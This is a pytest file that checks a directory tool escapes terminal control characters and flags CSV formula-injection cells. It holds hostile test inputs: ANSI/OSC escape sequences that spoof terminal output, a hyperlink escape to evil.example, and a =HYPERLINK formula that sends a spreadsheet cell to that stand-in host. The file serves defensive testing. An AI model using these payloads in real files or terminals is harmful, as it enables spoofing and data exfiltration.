"""What a laptop or a file says reaches the admin's terminal as text, never as
terminal commands (issue 18, LOW 10): ESC (ANSI colours, OSC titles and links),
the one-character CSI U+009B, CR and line breaks are printed as escapes, so a
correction cannot recolour the screen, rewrite a line or fake a listing line."""

from __future__ import annotations

import json
from pathlib import Path

from peerdesk.agency.cli.common import shown
from peerdesk.ids import new_id
from peerdesk.interop import hsds
from tests.agency.support import SUPERVISOR_PASSPHRASE, Agency, Run

SEED = Path(__file__).resolve().parents[2] / "resources" / "directory" / "seed.json"
#: what a terminal would act on
RAW = ("\x1b", "\x9b", "\r", "\x07", "\u202e")


def test_shown_escapes_c0_and_c1_controls_and_keeps_text() -> None:
    assert shown("a\x1b[31mred\x9b2J\rx\x07") == "a\\x1b[31mred\\x9b2J\\x0dx\\x07"
    assert shown("one\ntwo\ttab") == "one\\x0atwo\\x09tab"
    assert shown("one\ntwo\x1b]0;t\x07", lines=True) == "one\ntwo\\x1b]0;t\\x07"
    assert shown("a\u202eb\u2028c") == "a\\u202eb\\u2028c"
    assert shown("Café, 日本, emoji \U0001f600") == "Café, 日本, emoji \U0001f600"


def test_a_correction_cannot_drive_the_admins_terminal(
    agency: Agency, run: Run, tmp_path: Path
) -> None:
    where = str(agency.settings.directory)
    assert run("directory", "import", "--dir", where, str(SEED)).code == 0
    device = agency.enrolled_device()
    payload = {
        "service_id": "svc\r#99  2026-12-01T10:00  Fake Line [x]  accepted\x1b[2K",
        "suggestion": "see \x1b]8;;https://evil.example\x07here\x1b]8;;\x07 \x9b2J now",
        "created_at": "\x1b]0;owned\x07\x1b[31m",
    }
    record = device.record(payload, kind="correction", entity_id=new_id())
    assert agency.sync(device, device.batch([record])).status_code == 200
    secret = tmp_path / "passphrase"
    secret.write_text(SUPERVISOR_PASSPHRASE + "\n", encoding="utf-8")

    listed = run("directory", "corrections", "--dir", where, "--passphrase-file", str(secret))

    assert listed.code == 0, listed.err
    assert not any(c in listed.out for c in RAW)
    assert len(listed.out.splitlines()) == 2  # one correction: its line and its text
    assert "svc\\x0d#99" in listed.out and "\\x1b]8;;https://evil.example\\x07" in listed.out
    assert "\\x9b2J" in listed.out


def test_names_and_problems_from_a_file_are_printed_escaped(
    agency: Agency, run: Run, tmp_path: Path
) -> None:
    path = tmp_path / "odd.json"
    services = [
        {"id": "s1", "name": "Pantry \x9b2J\x9b1;1H", "status": "active"},  # C1: read as text
        {"id": "s2", "name": "Bad\x1b[31m", "status": "active"},  # C0: a problem
    ]
    path.write_text(json.dumps({"services": services}), encoding="utf-8")

    dry = run("directory", "import", "--dir", str(agency.settings.directory), "--dry-run",
              str(path))  # fmt: skip

    assert dry.code == 0, dry.err
    assert not any(c in dry.out + dry.err for c in RAW)
    assert "Pantry \\x9b2J\\x9b1;1H" in dry.out


def test_cells_a_spreadsheet_would_run_are_kept_exact_and_reported(
    agency: Agency, run: Run, tmp_path: Path
) -> None:
    """Issue 18, LOW 13: ``=HYPERLINK(...)`` from an imported file went into the
    CSV export unchanged and unannounced. The data stays exact (a quote in front
    would change HSDS data); the import lists such cells as kept problems and the
    export says how many there are."""
    where = str(agency.settings.directory)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    services = [
        {"id": "s1", "name": "Pantry", "status": "active", "description": formula},
        {"id": "s2", "name": "  @SUM(1+1)", "status": "active", "url": " -2+3"},
        {"id": "s3", "name": "Shelter", "status": "active", "minimum_age": 18,
         "alternate_name": "- dash and text -", "description": "-"},
    ]  # fmt: skip
    path = tmp_path / "formulas.json"
    path.write_text(json.dumps({"services": services}), encoding="utf-8")

    published = run("directory", "import", "--dir", where, str(path))

    assert published.code == 0, published.err
    assert "4 note(s) on records that were kept:" in published.out
    assert (
        "formulas.json, services (id 's1'), field 'description': starts with '=': a "
        "spreadsheet opening the CSV export would run it as a formula (kept)"
    ) in published.out
    assert "services (id 's2'), field 'name': starts with '@'" in published.out
    assert "services (id 's2'), field 'url': starts with '-'" in published.out
    assert "services (id 's3'), field 'alternate_name': starts with '-'" in published.out

    exported = run("directory", "export", "--dir", where, "--format", "csv",
                   str(tmp_path / "csv"))  # fmt: skip
    assert exported.code == 0, exported.err
    assert "Warning: 4 cell(s) of the CSV files start with = + - or @" in exported.out
    again = hsds.import_path(tmp_path / "csv").dataset
    assert {s.id: s.description for s in again.services}["s1"] == formula  # exact
    as_json = run("directory", "export", "--dir", where, str(tmp_path / "out.json"))
    assert as_json.code == 0 and "Warning" not in as_json.out
